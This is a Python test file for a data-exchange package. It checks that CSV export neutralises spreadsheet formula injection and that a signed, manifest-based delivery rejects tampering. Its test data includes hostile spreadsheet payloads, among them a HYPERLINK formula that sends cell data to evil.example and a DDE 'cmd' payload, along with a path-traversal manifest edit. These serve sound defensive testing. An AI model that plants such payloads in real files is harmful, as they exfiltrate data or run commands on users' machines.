"""Exported CSV neutralises formula injection; a signed delivery rejects every tampering
(independent of tests/simpul/exchange: built by hand, checked with the public key only)."""

from __future__ import annotations

import base64
import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from simpul.exchange.errors import VerificationError
from simpul.exchange.formats import write_csv
from simpul.exchange.signing import (
    MANIFEST,
    SIGNATURE,
    public_key_b64,
    sha256_file,
    sign_manifest,
    verify,
)

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_exported_csv_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    table = pa.table({"nama": FORMULAS + ["BIASA", None], "=kolom": ["x"] * 9, "n": list(range(9))})
    path = tmp_path / "out.csv"
    write_csv(table, path)
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert rows[0] == ["nama", "'=kolom", "n"]
    cells = [r[0] for r in rows[1:]]
    for original, cell in zip(FORMULAS, cells, strict=False):
        assert cell == "'" + original  # text, and the original is still readable after the '
    assert cells[-2:] == ["BIASA", ""]
    assert [r[2] for r in rows[1:]] == [str(i) for i in range(9)]


def _delivery(root: Path, key: Ed25519PrivateKey) -> Path:
    d = root / "delivery"
    d.mkdir()
    (d / "penduduk.csv").write_bytes(b"pseudonim,jumlah\r\nab12,3\r\n")
    (d / "catatan.txt").write_text("catatan")
    files = [
        {"name": n, "sha256": sha256_file(d / n), "bytes": (d / n).stat().st_size}
        for n in ("penduduk.csv", "catatan.txt")
    ]
    body, sig = sign_manifest({"delivery_id": "x1", "agency": "dinsos", "files": files}, key)
    (d / MANIFEST).write_bytes(body)
    (d / SIGNATURE).write_text(sig)
    return d


def _flip(path: Path, at: int = -3) -> None:
    b = bytearray(path.read_bytes())
    b[at] ^= 0x01
    path.write_bytes(bytes(b))


TAMPERS = {
    "data_byte": lambda d, k: _flip(d / "penduduk.csv"),
    "attachment_appended": lambda d, k: (d / "catatan.txt").write_text("catatan!"),
    "manifest_byte": lambda d, k: _flip(d / MANIFEST, 20),
    "manifest_reformatted": lambda d, k: (d / MANIFEST).write_text(
        json.dumps(json.loads((d / MANIFEST).read_bytes()), indent=1)
    ),
    "manifest_points_elsewhere": lambda d, k: (d / MANIFEST).write_bytes(
        (d / MANIFEST).read_bytes().replace(b"catatan.txt", b"../etc/x.txt")
    ),
    "signature_byte": lambda d, k: (d / SIGNATURE).write_text(
        base64.b64encode(
            bytes([base64.b64decode((d / SIGNATURE).read_text())[0] ^ 1])
            + base64.b64decode((d / SIGNATURE).read_text())[1:]
        ).decode()
    ),  # fmt: skip
    "signature_garbage": lambda d, k: (d / SIGNATURE).write_text("not base64 at all!"),
    "signature_missing": lambda d, k: (d / SIGNATURE).unlink(),
    "resigned_by_other_key": lambda d, k: (d / SIGNATURE).write_text(
        sign_manifest(json.loads((d / MANIFEST).read_bytes()), Ed25519PrivateKey.generate())[1]
    ),
    "file_removed": lambda d, k: (d / "catatan.txt").unlink(),
    "file_added": lambda d, k: (d / "extra.csv").write_text("nik\n1608014101900001\n"),
}


@pytest.mark.parametrize("tamper", sorted(TAMPERS))
def test_signed_delivery_rejects_tampering(tmp_path: Path, tamper: str) -> None:
    key = Ed25519PrivateKey.generate()
    public = public_key_b64(key.public_key())
    d = _delivery(tmp_path, key)
    assert verify(d, public)["delivery_id"] == "x1"
    TAMPERS[tamper](d, key)
    with pytest.raises(VerificationError):
        verify(d, public)
